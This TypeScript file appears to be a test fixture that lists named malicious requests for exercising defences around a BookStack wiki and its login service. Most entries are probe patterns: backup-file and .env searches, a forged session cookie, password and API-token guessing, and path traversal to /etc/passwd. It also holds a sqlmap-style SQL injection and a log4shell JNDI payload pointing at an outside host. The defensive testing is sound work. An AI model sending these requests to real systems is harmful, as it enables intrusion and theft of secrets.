/** One malicious request. */
export interface Malicious {
  readonly host: "bookstack" | "auth";
  readonly path: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const HTML = { accept: "text/html" };
const wiki = (path: string, headers: Readonly<Record<string, string>> = {}): Malicious => ({ host: "bookstack", path, headers: { ...HTML, ...headers } });

/** Attacks by name: what their requests are, one after the other. */
export const ATTACKS: Readonly<Record<string, (index: number) => Malicious>> = {
  "search for files": (index) => wiki(`/backup-${index}.php`),
  "search for known files": (index) => wiki(`/old-${index}/.env`),
  "search for files, forged session": (index) => wiki(`/backup-${index}.php`, { cookie: "authelia_session=forged" }),
  "guessing passwords": () => ({
    host: "auth",
    path: "/api/firstfactor",
    method: "POST",
    headers: { "content-type": "application/json", accept: "application/json" },
    body: JSON.stringify({ username: "victim", password: "wrong", keepMeLoggedIn: false }),
  }),
  "guessing API tokens": (index) => wiki(`/api/books/${index}`, { authorization: "Token wrong:wrong" }),
  "SQL injection, sqlmap": (index) =>
    wiki(`/search?term=${index}%27%20AND%20${index}%3D${index}`, { "user-agent": "sqlmap/1.8.4#stable (https://sqlmap.org)" }),
  log4shell: (index) => wiki(`/search?term=$%7Bjndi:ldap://203.0.113.9/${index}%7D`),
  "path traversal in a parameter": (index) => wiki(`/search?term=${"../".repeat(1 + (index % 8))}etc/passwd`),
  "path traversal in the path": (index) => wiki(`/books/${"../".repeat(1 + (index % 8))}etc/passwd`),
};
